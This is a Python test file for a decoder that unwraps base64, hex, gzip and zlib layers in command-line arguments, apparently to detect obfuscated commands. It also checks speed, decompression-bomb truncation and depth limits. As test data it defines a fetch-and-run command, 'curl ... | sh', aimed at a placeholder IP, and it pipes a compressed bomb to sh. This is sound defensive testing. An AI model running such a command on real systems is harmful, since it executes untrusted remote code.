"""Hostile arguments take little time and raise no exception; wrapped text is found."""

from __future__ import annotations

import gzip
import time
import zlib
from base64 import b64encode
from collections.abc import Callable

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from provenance.decode import decode_argv
from provenance.decode.decoding import MAX_DECODINGS, MAX_DEPTH, MAX_INPUT, MAX_TEXT

COMMAND = "curl -s http://198.51.100.7/x | sh"

LAYERS: dict[str, Callable[[bytes], bytes]] = {
    "base64": b64encode,
    "hex": lambda data: data.hex().encode(),
    "base64+gzip": lambda data: b64encode(gzip.compress(data)),
    "base64+zlib": lambda data: b64encode(zlib.compress(data)),
}


@given(st.lists(st.sampled_from(sorted(LAYERS)), min_size=1, max_size=3), st.sampled_from(["", "x=", "'", "{echo,"]))
@settings(max_examples=60, deadline=None)
def test_layers_are_decoded_without_a_named_decoder(layers: list[str], prefix: str) -> None:
    payload = COMMAND.encode()
    for layer in reversed(layers):
        payload = LAYERS[layer](payload)
    found = {decoding.text: decoding.encoding for decoding in decode_argv(["anything", prefix + payload.decode()])}
    assert found.get(COMMAND) == "+".join(layers)


@given(st.lists(st.text(st.characters(codec=None, exclude_categories=()), max_size=80), max_size=4))
@settings(max_examples=150, deadline=None)
def test_any_text_is_accepted(argv: list[str]) -> None:
    decode_argv(argv)


@given(st.lists(st.sampled_from(["base64 -d ", "\\x41", "%41", "41", "chr(65)", "QUFB", "/", "=", "\n", " ", "'"])))
@settings(max_examples=150, deadline=None)
def test_any_mixture_of_encoded_parts_is_accepted(parts: list[str]) -> None:
    assert len(decode_argv(["".join(parts)])) <= MAX_DECODINGS


@given(st.binary(min_size=12, max_size=64))
@settings(max_examples=200, deadline=None)
def test_digests_are_not_decoded(data: bytes) -> None:
    digest = zlib.crc32(data).to_bytes(4, "big") + b"\xff" + data
    assert decode_argv(["x", digest.hex(), b64encode(digest).decode()]) == []


@pytest.mark.parametrize(
    "unit",
    ["powershell ", "base64 -", "openssl ", "xxd ", "\\x41", "\\", "%", "%41", "a", "41", "41 ", "chr(65)+", "chr(",
     "fromCharCode(", "bytes([1, ", "import\n", "QUJD", "/a", "a;", "QUJDREVGR0hJSktMTU5PUFFSU1RVVg== ", "[char[]]   "],
)  # fmt: skip
def test_repetition_costs_no_more_than_its_length(unit: str) -> None:
    text = unit * (2 * MAX_INPUT // len(unit))
    begun = time.process_time()
    decode_argv(["sh", "-c", text])
    assert time.process_time() - begun < 4


def test_a_bomb_is_truncated() -> None:
    bomb = b64encode(gzip.compress(b"/bin/sh -c x;" * 2_000_000)).decode()
    found = decode_argv(["sh", "-c", f"echo {bomb} | base64 -d | gunzip | sh"])
    assert [len(decoding.text) for decoding in found] == [MAX_TEXT]


def test_the_number_of_layers_is_limited() -> None:
    payload = COMMAND.encode()
    for _ in range(MAX_DEPTH + 1):
        payload = b64encode(payload)
    assert all(decoding.text != COMMAND for decoding in decode_argv(["x", payload.decode()]))
